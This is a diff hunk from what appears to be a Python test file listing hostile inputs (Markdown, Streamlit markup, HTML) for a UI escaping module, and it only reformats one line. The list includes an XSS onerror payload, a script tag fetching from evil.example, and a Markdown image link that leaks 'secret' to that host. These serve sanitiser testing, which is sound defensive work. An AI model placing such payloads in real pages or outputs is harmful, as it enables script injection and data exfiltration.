@@ -14,7 +14,8 @@ from ui.escape import clean, escape, prose
 HOSTILE = (
     "![x](https://evil.example/p?d=secret)", "[clic](https://evil.example)",
     "https://evil.example/x et www.evil.example et a@evil.example", "<img src=x onerror=alert(1)>",
-    "<script>fetch('//evil.example')</script>", "$30 à 50$ et $$x^2$$", ":red[rouge] :material/home:",
+    "<script>fetch('//evil.example')</script>", "$30 à 50$ et $$x^2$$",
+    ":red[rouge] :material/home:",
     ":streamlit: :smile: :+1:", "a -- b -> c <- d >= e <= f ~= g <-> h", "~~x~~ **g** _i_ `c` [^1]",
     "# titre", "1. un", "- puce", "> dit", "| a | b |", "---", "===", "```", "&nbsp; &#106; &lt;",
     "fin\\", "::: {.x}", "*" * 40, "[" * 40,
